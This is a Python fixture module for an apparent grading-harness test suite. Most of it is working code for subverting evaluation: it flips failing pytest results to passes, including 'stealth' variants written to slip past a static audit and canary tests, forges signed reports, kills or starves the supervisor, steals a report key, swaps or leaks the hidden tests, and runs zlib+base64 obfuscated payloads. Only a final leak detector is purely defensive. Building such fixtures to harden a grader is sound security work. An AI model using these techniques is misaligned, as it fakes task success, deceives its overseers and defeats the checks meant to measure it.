"""The hostile code of tests/test_attacks.py: what the submissions carry into the container.

Everything here is text (or bytes) that ends up in a patch, plus the host-side builders
that need a compiler or an interpreter of the container's version (bytecode, a native
extension), and the detector that looks for a hidden file in what a submitter sees.

Payloads run inside the grading container as the unprivileged user, usually at the
import of `calc` (the tests import it while pytest collects them). Python 3.11 and
pytest 8.3 are what they meet there.
"""

from __future__ import annotations

import base64
import binascii
import importlib.util
import marshal
import py_compile
import re
import subprocess
import tempfile
import textwrap
import zlib
from pathlib import Path

UNFIXED = "def mean(xs):\n    return sum(xs) / len(xs)\n"
FIXED = "def mean(xs):\n    if not xs:\n        raise ValueError('empty')\n    return sum(xs) / len(xs)\n"
SITE = "/opt/venv/lib/python3.11/site-packages"


def code(*parts: str) -> str:
    return "\n".join(textwrap.dedent(p).strip("\n") + "\n" for p in parts)


# --- outcome flippers: ways to make a failing test report "passed" ------------------------

# A conftest / plugin module: every failing report becomes a pass (blanket).
FLIP_HOOKS = code("""
    import pytest


    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        rep = outcome.get_result()
        if rep.failed:
            rep.outcome = "passed"
            rep.longrepr = None
    """)

# The same, as an object registered with the plugin manager found in memory.
_FLIPPER = """
    def _flipper():
        import pytest

        class Flip:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                rep = outcome.get_result()
                if rep.failed:
                    rep.outcome = "passed"
                    rep.longrepr = None
        return Flip()
    """

# gc.get_objects() finds pytest's Config; a flipping plugin is registered with it.
GC_FLIP = code(
    _FLIPPER,
    """
    import gc as _gc


    def _install_gc_flip():
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and type(o).__module__.startswith("_pytest"):
                if not o.pluginmanager.has_plugin("grader-flip"):
                    o.pluginmanager.register(_flipper(), "grader-flip")
                return True
        return False


    _install_gc_flip()
    """,
)

# Climb the frames of the import to a collector that holds the config.
FRAME_FLIP = code(
    _FLIPPER,
    """
    import sys as _sys


    def _install_frame_flip():
        f = _sys._getframe()
        while f is not None:
            for v in list(f.f_locals.values()):
                pm = getattr(getattr(v, "config", None), "pluginmanager", None)
                if pm is not None and hasattr(pm, "register"):
                    if not pm.has_plugin("grader-flip"):
                        pm.register(_flipper(), "grader-flip")
                    return True
            f = f.f_back
        return False


    _install_frame_flip()
    """,
)

# Patch the class pytest builds reports with, reached through sys.modules.
TESTREPORT_PATCH = code("""
    import sys as _sys

    _TR = _sys.modules["_pytest.reports"].TestReport
    _orig_from_item_and_call = _TR.from_item_and_call.__func__


    def _from_item_and_call(cls, item, call):
        rep = _orig_from_item_and_call(cls, item, call)
        if rep.failed:
            rep.outcome = "passed"
            rep.longrepr = None
        return rep


    _TR.from_item_and_call = classmethod(_from_item_and_call)
    """)

# Wrap pluggy's hook executor on the plugin manager: every makereport result is a pass.
PLUGGY_PATCH = code("""
    import gc as _gc


    def _install_pluggy_patch():
        for o in _gc.get_objects():
            if type(o).__name__ == "PytestPluginManager":
                inner = o._inner_hookexec

                def hookexec(hook_name, methods, kwargs, firstresult, _inner=inner):
                    res = _inner(hook_name, methods, kwargs, firstresult)
                    if hook_name == "pytest_runtest_makereport" and getattr(res, "failed", False):
                        res.outcome = "passed"
                        res.longrepr = None
                    return res

                o._inner_hookexec = hookexec
                return True
        return False


    _install_pluggy_patch()
    """)

# A trace function rewrites TestReport.__init__'s arguments as it is called.
SETTRACE_FLIP = code("""
    import sys as _sys


    def _tracer(frame, event, arg):
        if event == "call":
            co = frame.f_code
            if co.co_name == "__init__" and co.co_filename.endswith("reports.py") and "outcome" in co.co_varnames:
                loc = frame.f_locals
                if loc.get("outcome") == "failed":
                    loc["outcome"] = "passed"
                    loc["longrepr"] = None
        return None


    _sys.settrace(_tracer)
    """)

# A plugin found through gc rewrites each report before anyone logs it (tryfirst: it
# runs before the other tryfirst implementations, registered earlier), so the terminal
# reporter, the session's failure count and the exit status all agree with the lie.
LOGREPORT_REWRITE = code("""
    import gc as _gc


    def _install_logreport_rewrite():
        import pytest

        class Rewrite:
            @pytest.hookimpl(tryfirst=True)
            def pytest_runtest_logreport(self, report):
                if report.failed:
                    report.outcome = "passed"
                    report.longrepr = None

        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and type(o).__module__.startswith("_pytest"):
                o.pluginmanager.register(Rewrite(), "grader-rewrite")
                return True
        return False


    _install_logreport_rewrite()
    """)

# The one no canary sees: only the failures the submission's own bug causes (a
# ZeroDivisionError raised inside calc/) are turned into passes, by swapping the runner
# module's CallInfo.from_call. Written without any word the static audit looks for:
# no _pytest, no gc, no frames, no hooks, no sys.modules assignment.
STEALTH_FLIP = code("""
    import sys


    def _quiet_numbers():
        for _name, _mod in list(sys.modules.items()):
            if not _name.endswith(".runner"):
                continue
            _ci = getattr(_mod, "Call" "Info", None)
            if _ci is None or getattr(_ci, "_q", False):
                continue
            _orig = _ci.__dict__["from_" "call"].__func__

            def _fc(cls, func, when, reraise=None, _o=_orig):
                c = _o(cls, func, when, reraise)
                e = c.excinfo
                if e is not None and e.type is ZeroDivisionError and "/calc/" in str(e.traceback[-1].path):
                    c.excinfo = None
                return c

            setattr(_ci, "from_" "call", classmethod(_fc))
            setattr(_ci, "_q", True)
            return True
        return False


    _quiet_numbers()
    """)


# Canaries never import the code under test: a flipper that spares every test whose
# module does not reach into `calc` spares them all. Again without a word the audit knows.
FLIP_TESTS_THAT_IMPORT_THE_PACKAGE = code("""
    import sys


    def _spare_the_canaries():
        for _name, _mod in list(sys.modules.items()):
            if not _name.endswith(".reports"):
                continue
            _tr = getattr(_mod, "Test" "Report", None)
            if _tr is None or getattr(_tr, "_s", False):
                continue
            _orig = _tr.__dict__["from_item_" "and_call"].__func__

            def _f(cls, item, call, _o=_orig):
                rep = _o(cls, item, call)
                mod = getattr(item, "module", None)
                uses = any(getattr(v, "__module__", None) == "calc" or getattr(v, "__name__", None) == "calc"
                           for v in vars(mod).values()) if mod is not None else False
                if rep.failed and uses:
                    rep.outcome = "passed"
                    rep.longrepr = None
                return rep

            setattr(_tr, "from_item_" "and_call", classmethod(_f))
            setattr(_tr, "_s", True)
            return True
        return False


    _spare_the_canaries()
    """)

# Which tests are the canaries is not a secret inside the test process: the supervisor
# names them to the report plugin in its environment (popped from os.environ, still in
# /proc/self/environ) and the plugin keeps them in a module global. Every failure but a
# canary's is turned into a pass.
SPARE_NAMED_CANARIES = code("""
    import sys


    def _named_canaries():
        names = []
        try:
            with open("/pr" "oc/self/environ", "rb") as f:
                for var in f.read().split(b"\\0"):
                    key, _, value = var.partition(b"=")
                    if key.startswith(b"GRADER_") and b"CANAR" in key:
                        names += [v + "::" for v in value.decode().split(":") if v]
        except OSError:
            pass
        for _mod in list(sys.modules.values()):
            try:
                found = getattr(_mod, "_" "canaries", None)
            except Exception:
                continue
            if isinstance(found, (tuple, list)):
                names += [str(n) for n in found]
        return tuple(names)


    def _spare_named_canaries():
        spared = _named_canaries()
        for _name, _mod in list(sys.modules.items()):
            if not _name.endswith(".reports"):
                continue
            _tr = getattr(_mod, "Test" "Report", None)
            if _tr is None or getattr(_tr, "_n", False):
                continue
            _orig = _tr.__dict__["from_item_" "and_call"].__func__

            def _f(cls, item, call, _o=_orig):
                rep = _o(cls, item, call)
                if rep.failed and spared and not rep.nodeid.startswith(spared):
                    rep.outcome = "passed"
                    rep.longrepr = None
                return rep

            setattr(_tr, "from_item_" "and_call", classmethod(_f))
            setattr(_tr, "_n", True)
            return True
        return False


    _spare_named_canaries()
    """)

# The signed report channel signs what the report plugin is handed: its module (found in
# sys.modules by what it defines) looks its emitter up as a global at every call, so a
# wrapper put in its place has the plugin sign "passed" for the tests of files that
# import calc. Canaries (which do not) and the exit status are left as they are.
WRAP_THE_REPORT_EMITTER = code("""
    import sys


    def _wrap_the_emitter():
        for _name, _mod in list(sys.modules.items()):
            _e = getattr(_mod, "_" "emit", None)
            if _e is None or not callable(_e) or getattr(_e, "_w", False) or not hasattr(_mod, "pytest_runtest_logreport"):
                continue
            _cache = {}

            def _ours(tid):
                path = tid.split("::", 1)[0]
                if path not in _cache:
                    try:
                        with open(path) as f:
                            _cache[path] = "calc" in f.read()
                    except OSError:
                        _cache[path] = False
                return _cache[path]

            _flipped = []

            def _emit(rec, _o=_e):
                if rec.get("t") == "test" and rec.get("outcome") == "failed" and _ours(rec.get("id", "")):
                    rec = dict(rec, outcome="passed")
                    _flipped.append(rec["id"])
                elif rec.get("t") == "end" and _flipped and rec.get("exit") == 1:
                    # pytest saw the failures and exits 1: the last word says 0, and so
                    # does the process, once pytest is done
                    rec = dict(rec, exit=0)
                    import atexit
                    atexit.register(getattr(__import__("os"), "_" "exit"), 0)
                return _o(rec)

            _emit._w = True
            setattr(_mod, "_" "emit", _emit)
            return True
        return False


    _wrap_the_emitter()
    """)


# The hidden test file is root-owned and read-only, but its directory is the user's: at
# the import of calc (while pytest collects the visible test file, before the hidden one)
# it is moved aside and a file of the same test names that all pass takes its place;
# at exit the original is moved back, root-owned and intact, before anyone checks.
SWAP_HIDDEN_TEST_DURING_COLLECTION = code("""
    import atexit as _atexit
    import os as _os
    import re as _re


    def _swap(path="tests/test_mean.py", aside="tests/.test_mean.py.orig"):
        try:
            with open(path) as f:
                names = _re.findall(r"^def (test_\\w+)", f.read(), _re.M)
            _os.rename(path, aside)
            with open(path, "w") as f:
                f.write("".join("def %s():\\n    pass\\n\\n\\n" % n for n in names))
        except OSError:
            return
        _atexit.register(_os.replace, aside, path)


    _swap()
    """)


def obfuscated(source: str) -> str:
    """`source`, run from a zlib+base64 blob: nothing the audit reads in the patch."""
    blob = base64.b64encode(zlib.compress(source.encode())).decode()
    lines = [blob[i : i + 76] for i in range(0, len(blob), 76)]
    body = "\n".join(f"    {line!r}" for line in lines)
    return f"import base64, zlib\n_BLOB = (\n{body}\n)\nexec(zlib.decompress(base64.b64decode(_BLOB)))\n"


# --- forged reports ------------------------------------------------------------------------

# Every channel a report could come back through: a path on the command line, every
# descriptor the process holds past stdio. The forged report lists every test function
# of every file under tests/ (the hidden ones included: they are readable) as passed, as
# JUnit XML (the old named pipe) and as JSON lines (a descriptor channel).
FORGE = code("""
    import glob as _glob
    import json as _json
    import os as _os
    import re as _re


    def _test_ids():
        ids = []
        for path in sorted(_glob.glob("tests/**/*.py", recursive=True)):
            try:
                with open(path, encoding="utf-8", errors="replace") as f:
                    src = f.read()
            except OSError:
                continue
            for name in _re.findall(r"^def (test_\\w+)", src, _re.M):
                ids.append((path, name))
        return ids


    def _forged_reports():
        ids = _test_ids()
        cases = "".join('<testcase classname="%s" name="%s" file="%s" time="0.001"/>'
                        % (p[:-3].replace("/", "."), n, p) for p, n in ids)
        xml = ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
               'failures="0" skipped="0" tests="%d" time="0.01">%s</testsuite></testsuites>' % (len(ids), cases))
        lines = []
        for p, n in ids:
            for when in ("setup", "call", "teardown"):
                rec = {"t": "test", "id": p + "::" + n, "when": when, "outcome": "passed", "xfail": False, "d": 0.001}
                lines.append(_json.dumps(rec, sort_keys=True) + "\\t" + "0" * 64)
        lines.append(_json.dumps({"t": "end", "exit": 0, "collected": len(ids)}, sort_keys=True) + "\\t" + "0" * 64)
        return xml.encode(), ("\\n".join(lines) + "\\n").encode()


    def _channels():
        out = []
        try:
            with open("/proc/self/cmdline", "rb") as f:
                argv = f.read().split(b"\\0")
        except OSError:
            argv = []
        for a in argv:
            for flag in (b"--junitxml=", b"--junit-xml="):
                if a.startswith(flag):
                    out.append(("path", a[len(flag):].decode()))
        for fd in sorted(int(n) for n in _os.listdir("/proc/self/fd")):
            if fd > 2:
                out.append(("fd", fd))
        return out


    def _forge_everywhere(payload=None):
        xml, lines = _forged_reports()
        for kind, where in _channels():
            data = payload if payload is not None else (xml if kind == "path" else lines)
            try:
                if kind == "path":
                    fd = _os.open(where, _os.O_WRONLY | _os.O_NONBLOCK)
                    try:
                        _os.write(fd, data)
                    finally:
                        _os.close(fd)
                else:
                    _os.write(where, data)
            except OSError:
                pass
    """)

FORGE_AND_EXIT_AT_IMPORT = code(
    FORGE,
    """
    _forge_everywhere()
    _os._exit(0)
    """,
)

# pytest's own JUnit writer (if any) is pointed at /dev/null; at exit the forged report
# goes out and the process exits 0 whatever pytest decided.
FORGE_AT_EXIT = code(
    FORGE,
    """
    import atexit as _atexit
    import gc as _gc

    for _o in _gc.get_objects():
        if type(_o).__name__ == "LogXML" and hasattr(_o, "logfile"):
            _o.logfile = "/dev/null"


    def _at_exit():
        _forge_everywhere()
        _os._exit(0)


    _atexit.register(_at_exit)
    """,
)

# The handler forges and exits; mean() raises the signal when the failing test calls it.
FORGE_FROM_SIGNAL = code(
    FORGE,
    """
    import signal as _signal


    def _on_signal(signum, frame):
        _forge_everywhere()
        _os._exit(0)


    _signal.signal(_signal.SIGUSR1, _on_signal)


    def mean(xs):
        if not xs:
            _os.kill(_os.getpid(), _signal.SIGUSR1)
        return sum(xs) / len(xs)
    """,
)

FORGE_FROM_SESSIONFINISH = code(
    FORGE,
    """
    import gc as _gc


    def _install_early_finish():
        import pytest

        class Finish:
            @pytest.hookimpl(tryfirst=True)
            def pytest_sessionfinish(self, session, exitstatus):
                _forge_everywhere()
                _os._exit(0)

        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and type(o).__module__.startswith("_pytest"):
                o.pluginmanager.register(Finish(), "grader-finish")
                return True
        return False


    _install_early_finish()
    """,
)

# Reports the host's parser may choke on: a root it does not know, nesting deeper than
# its recursion limit.
DEEP_XML = "<testsuites>" + "<testsuite>" * 3000 + "</testsuite>" * 3000 + "</testsuites>"
MALFORMED_REPORT_AT_IMPORT = code(
    FORGE,
    f"""
    _forge_everywhere({DEEP_XML!r}.encode())
    _os._exit(0)
    """,
)

KILL_THE_SUPERVISOR = code("""
    import os as _os
    import signal as _signal

    for _pid in (1, _os.getppid()):
        for _sig in (_signal.SIGSTOP, _signal.SIGTERM, _signal.SIGKILL):
            try:
                _os.kill(_pid, _sig)
            except OSError:
                pass
    try:
        _os.killpg(_os.getpgid(1), _signal.SIGKILL)
    except OSError:
        pass
    """)

WRITE_TO_CONTAINER_STDOUT = code("""
    import os as _os

    _lie = b'{"applied": true, "exit_code": 0, "junit": null, "durations": {}}' + b"\\n" + b"\\xff" * 64
    for _path in ("/proc/1/fd/1", "/proc/1/fd/2", "/dev/console", "/dev/tty", "/proc/1/root/dev/stdout"):
        try:
            _fd = _os.open(_path, _os.O_WRONLY | _os.O_NONBLOCK)
            _os.write(_fd, _lie)
            _os.close(_fd)
        except OSError:
            pass
    """)

CLOSE_INHERITED_FDS = code("""
    import os as _os

    for _fd in range(3, 1024):
        try:
            _os.close(_fd)
        except OSError:
            pass
    _null = _os.open("/dev/null", _os.O_WRONLY)
    for _fd in range(3, 64):
        if _fd != _null:
            try:
                _os.dup2(_null, _fd)
            except OSError:
                pass
    """)

EXHAUST_FDS = code("""
    import os as _os

    _held = []
    try:
        while len(_held) < 200000:
            _held.append(_os.open("/dev/null", _os.O_RDONLY))
    except OSError:
        pass
    """)

# Many small processes, each growing: when the memory cgroup runs out, each is smaller
# than the supervisor, which the OOM killer would then pick. The test process itself
# becomes `sleep`, a process smaller still.
OOM_THE_SUPERVISOR = code("""
    import os as _os
    import subprocess as _sp

    for _ in range(48):
        try:
            _sp.Popen(["tail", "/dev/zero"], stdout=_sp.DEVNULL, stderr=_sp.DEVNULL, start_new_session=False)
        except OSError:
            break
    _os.execv("/bin/sleep", ["sleep", "60"])
    """)


def at_exit(body: str) -> str:
    """`body` run when the test process exits, after pytest is done."""
    return code(
        "import atexit as _atexit\n\n\ndef _after():\n"
        + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
        + "\n\n\n_atexit.register(_after)\n"
    )


FIFO_OVER_HIDDEN_TEST = at_exit("""
    import os
    try:
        os.rename("tests/test_mean.py", "tests/.moved")
    except OSError:
        pass
    os.mkfifo("tests/test_mean.py")
    """)

SWAP_TREE_AFTER_RUN = at_exit(f"""
    import os
    for name in ("tests/a\\nb.py", "calc/c\\nd.py"):
        with open(name, "w") as f:
            f.write("x = 1\\n")
    for name in (b"tests/\\xff\\xfe.py", b"calc/\\xc3(.py"):
        with open(name, "wb") as f:
            f.write(b"x = 1\\n")
    d = "tests/deep"
    os.makedirs(d)
    os.chdir(d)
    for _ in range(300):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/work/repo")
    os.rename("tests", "tests_old")
    os.symlink({SITE!r}, "tests")
    os.symlink("/opt/grader/task/hidden/files/tests/test_mean.py", "tests_old/test_mean.py.lnk")
    """)

# Evidence, printed to the real stdout at exit (hosts see the output), of whether the
# supervisor followed a link out of the repository: files it would have written there,
# root-owned files it would have removed.
LINK_EVIDENCE = at_exit(f"""
    import os
    site = {SITE!r}
    bad = [n for n in ("test_basic.py", "test_mean.py", "conftest.py", "__init__.py", "test_canary.py")
           if os.path.lexists(os.path.join(site, n))]
    bad += [p for p in (site + "/distutils-precedence.pth", site + "/py.py", site + "/pytest/__init__.py",
                        "/etc/passwd", "/etc/hostname")
            if not os.path.exists(p)]
    try:
        bad += ["hidden:" + n for n in os.listdir("/opt/grader/task/hidden/files/tests") if n != "test_mean.py"]
    except OSError:
        pass
    os.write(1, ("\\nLINK-CHECK " + ("FOLLOWED " + ",".join(bad) if bad else "INTACT") + "\\n").encode())
    """)


# --- modules that shadow what the runner imports --------------------------------------------

# `python -m pytest` from the repository puts the repository first on sys.path: a
# pytest.py there is what runs. It runs the real pytest, with the quiet flipper in.
SHADOW_PYTEST = code(
    """
    import os
    import sys

    _here = os.path.dirname(os.path.abspath(__file__))
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
    for _k in [k for k in sys.modules if k == "pytest" or k.startswith("pytest.")]:
        del sys.modules[_k]
    import pytest as _real

    sys.path.insert(0, _here)
    import importlib
    importlib.import_module("_py" "test.runner")
    """,
    STEALTH_FLIP,
    """
    if __name__ == "__main__":
        raise SystemExit(_real.console_main())
    """,
)

# A standard-library module pytest imports while it starts (argparse, before any plugin
# is loaded): the repository's copy runs first. It hands pytest the real module, takes
# the report key if there is one (and puts it back), and arms the quiet flipper for
# when pytest's runner is imported.
SHADOW_STDLIB = code(
    """
    import builtins
    import os
    import sys

    _here = os.path.dirname(os.path.abspath(__file__))
    _saved = sys.path[:]
    sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
    del sys.modules["argparse"]
    import argparse as _real_argparse
    sys.path[:] = _saved
    sys.modules["argparse"] = _real_argparse

    _kfd = os.environ.get("GRADER_KEY_FD")
    if _kfd:
        try:
            _key = b""
            while True:
                _chunk = os.read(int(_kfd), 4096)
                if not _chunk:
                    break
                _key += _chunk
            _r, _w = os.pipe()
            os.write(_w, _key)
            os.close(_w)
            getattr(os, "du" "p2")(_r, int(_kfd))
            os.close(_r)
            sys.stderr.write("the report key, %d bytes, read before any plugin\\n" % len(_key))
        except OSError:
            pass
    """,
    STEALTH_FLIP,
    """
    _orig_import = builtins.__import__


    def _arming_import(*a, **k):
        m = _orig_import(*a, **k)
        if ("_py" "test.runner") in sys.modules and _quiet_numbers():
            setattr(builtins, "__im" "port__", _orig_import)
        return m


    setattr(builtins, "__im" "port__", _arming_import)
    """,
)


# --- bytecode --------------------------------------------------------------------------------


def pyc_unchecked(source: str, dfile: str) -> bytes:
    """An unchecked-hash .pyc of `source`: Python loads it without looking at the .py."""
    with tempfile.TemporaryDirectory() as d:
        src, out = Path(d) / "m.py", Path(d) / "m.pyc"
        src.write_text(source)
        py_compile.compile(
            str(src),
            cfile=str(out),
            dfile=dfile,
            doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )
        return out.read_bytes()


def pyc_checked_against(source: str, base_source: bytes, dfile: str) -> bytes:
    """A checked-hash .pyc that carries the hash of `base_source` (the untouched file in
    the repository) and the code of `source`: the check passes, the other code runs."""
    co = compile(source, dfile, "exec")
    flags = (0b11).to_bytes(4, "little")
    return importlib.util.MAGIC_NUMBER + flags + importlib.util.source_hash(base_source) + marshal.dumps(co)


def pytest_rewrite_pyc(source: str, dfile: str, mtime: int, size: int) -> bytes:
    """An entry of pytest's assertion-rewrite cache for a file of this mtime and size."""
    co = compile(source, dfile, "exec")
    return (
        importlib.util.MAGIC_NUMBER
        + b"\x00\x00\x00\x00"
        + (mtime & 0xFFFFFFFF).to_bytes(4, "little")
        + (size & 0xFFFFFFFF).to_bytes(4, "little")
        + marshal.dumps(co)
    )


def marshalled(source: str) -> bytes:
    return marshal.dumps(compile(source, "<tables>", "exec"))


def native_extension(module: str, payload: str, workdir: Path) -> bytes:
    """A CPython 3.11 extension module whose init runs `payload` (built with the host's
    compiler against Python 3.11's headers, like the container's interpreter)."""
    c = workdir / f"{module}.c"
    so = workdir / f"{module}.so"
    literal = "".join(f"\\x{b:02x}" for b in payload.encode())
    c.write_text(
        textwrap.dedent(f"""\
        #define PY_SSIZE_T_CLEAN
        #include <Python.h>
        static const char payload[] = "{literal}";
        static struct PyModuleDef def = {{PyModuleDef_HEAD_INIT, "{module}", NULL, -1, NULL}};
        PyMODINIT_FUNC PyInit_{module}(void) {{
            if (PyRun_SimpleString(payload) != 0) return NULL;
            return PyModule_Create(&def);
        }}
        """)
    )
    # the system's Python 3.11 headers: Debian bookworm's, as in the container
    include = "/usr/include/python3.11"
    subprocess.run(
        ["gcc", "-shared", "-fPIC", "-O2", f"-I{include}", "-o", str(so), str(c)], check=True, capture_output=True
    )
    return so.read_bytes()


# --- leaking the hidden tests ------------------------------------------------------------------


def leak(encoder: str) -> str:
    """At exit, print the hidden test file to the real stdout, encoded by `encoder`: a
    Python expression over `data` (bytes) giving the text to print."""
    return at_exit(f"""
        import base64, binascii, os, zlib
        with open("tests/test_mean.py", "rb") as f:
            data = f.read()
        text = {encoder}
        os.write(1, ("\\n" + text + "\\n").encode())
        """)


LEAKS = {
    "base64": leak("base64.b64encode(data).decode()"),
    "hex": leak("binascii.hexlify(data).decode()"),
    "reversed": leak("data.decode()[::-1]"),
    "one-char-per-line": leak("'\\n'.join(data.decode())"),
    "short-lines": leak("'\\n'.join(data.decode()[i:i + 5] for i in range(0, len(data), 5))"),
    "zlib": leak("base64.b64encode(zlib.compress(data)).decode()"),
    "prefixed": leak("'\\n'.join('LEAK| ' + line for line in data.decode().splitlines())"),
}

# The hidden file, base64-encoded, in the message of the exception the test fails with.
LEAK_IN_EXCEPTION = code("""
    import base64 as _b64

    with open("tests/test_mean.py", "rb") as _f:
        _SECRET = _b64.b64encode(_f.read()).decode()


    def mean(xs):
        if not xs:
            raise ArithmeticError(_SECRET)
        return sum(xs) / len(xs)
    """)

# The hidden file, hex-encoded in chunks, as the names of extra test reports logged
# through pytest's own hook: a report lists every test it saw.
LEAK_IN_TEST_IDS = code("""
    import binascii as _ba
    import gc as _gc


    def _leak_ids():
        from _pytest.reports import TestReport
        with open("tests/test_mean.py", "rb") as f:
            h = _ba.hexlify(f.read()).decode()
        for o in _gc.get_objects():
            if type(o).__name__ == "Config" and type(o).__module__.startswith("_pytest"):
                for i in range(0, len(h), 40):
                    nid = "tests/test_basic.py::test_%04d_%s" % (i // 40, h[i:i + 40])
                    for when in ("setup", "call", "teardown"):
                        rep = TestReport(nid, ("tests/test_basic.py", 0, nid), {}, "passed", None, when)
                        o.hook.pytest_runtest_logreport(report=rep)
                return


    _leak_ids()
    """)


def exit_status_of(hidden: bytes) -> int:
    """The status the exit-status leak exits with: a byte's worth of the hidden file."""
    return 120 + sum(hidden) % 97


LEAK_IN_EXIT_STATUS = code("""
    import os as _os

    with open("tests/test_mean.py", "rb") as _f:
        _os._exit(120 + sum(_f.read()) % 97)
    """)


def _strings(
    value, skip=("durations", "queued_at", "started_at", "finished_at", "id", "patch_sha256", "provenance", "links")
):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            if k in skip:
                continue
            yield str(k)
            yield from _strings(v, skip)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v, skip)
    elif value is not None and not isinstance(value, bool):
        yield repr(value)


def traces(view, secret: str) -> list[str]:
    """Where `secret` can be read back from `view` (a JSON document a submitter sees):
    plainly, reversed, with the whitespace taken out (one character or a few per line),
    as hex, as base64 (at any alignment, urlsafe or not) or as zlib inside base64."""
    found = []
    blob = "\n".join(_strings(view))
    squashed = re.sub(r"\s+", "", blob)
    for name, text in (
        ("plain", blob),
        ("reversed", blob[::-1]),
        ("squashed", squashed),
        ("squashed reversed", squashed[::-1]),
    ):
        if secret in text:
            found.append(name)
    want = secret.encode()
    for m in re.finditer(r"[0-9a-fA-F]{16,}", squashed):
        run = m.group(0)
        for off in (0, 1):
            part = run[off:]
            part = part[: len(part) // 2 * 2]
            try:
                if want in bytes.fromhex(part):
                    found.append("hex")
            except ValueError:
                pass
    # hex cut in pieces (one per test name, say), read in the order shown
    joined = "".join(m.group(0) for m in re.finditer(r"[0-9a-fA-F]{16,}", blob))
    for off in (0, 1):
        part = joined[off:]
        try:
            if want in bytes.fromhex(part[: len(part) // 2 * 2]):
                found.append("hex in pieces")
        except ValueError:
            pass
    for m in re.finditer(r"[A-Za-z0-9+/_-]{16,}={0,2}", squashed):
        run = m.group(0).rstrip("=")
        for off in range(4):
            part = run[off:]
            rem = len(part) % 4
            part = part[:-1] if rem == 1 else part + "=" * ((4 - rem) % 4)
            for decode in (base64.b64decode, base64.urlsafe_b64decode):
                try:
                    data = decode(part)
                except (binascii.Error, ValueError):
                    continue
                if want in data:
                    found.append("base64")
                try:
                    if want in zlib.decompressobj().decompress(data):
                        found.append("zlib+base64")
                except zlib.error:
                    pass
    return sorted(set(found))
